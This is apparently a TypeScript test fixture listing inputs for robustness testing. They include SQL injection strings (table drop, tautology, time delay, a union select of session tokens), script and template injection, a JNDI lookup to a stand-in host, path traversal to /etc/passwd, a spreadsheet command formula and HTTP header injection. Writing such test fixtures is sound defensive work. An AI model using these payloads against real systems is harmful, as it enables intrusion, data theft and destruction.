/** Text that has broken something somewhere. */
export const PAYLOADS: readonly { about: string; text: string }[] = [
  { about: "SQL that ends a statement", text: "'; drop table task; --" },
  { about: "SQL that is always true", text: "' or 1=1 --" },
  { about: "SQL that waits", text: "1'; select pg_sleep(5); --" },
  { about: "SQL of another query", text: "x' union select id, token, null from session --" },
  { about: "wildcards", text: "%_\\%" },
  { about: "markup", text: "<script>alert(1)</script><img src=x onerror=alert(1)>" },
  { about: "a template", text: "{{7*7}} #{7*7} <%= 7*7 %> \u0024{jndi:ldap://x.example/a}" },
  { about: "a path", text: "../../../../etc/passwd" },
  { about: "a formula", text: "=cmd|' /C calc'!A0" },
  { about: "line breaks of HTTP", text: "x\r\nSet-Cookie: holdfast.session_token=evil" },
  { about: "NUL", text: "a\u0000b" },
  { about: "half a surrogate pair", text: "a\ud800b" },
  { about: "an override of direction", text: "\u202egnp.exe" },
  { about: "combining letters", text: "cafe\u0301" },
  { about: "blanks", text: "   " },
  { about: "a huge text", text: "x".repeat(250_000) },
];

/** Payloads that are about their length, and so are not cut to fit. */
export const UNCUT: ReadonlySet<string> = new Set(["a huge text"]);
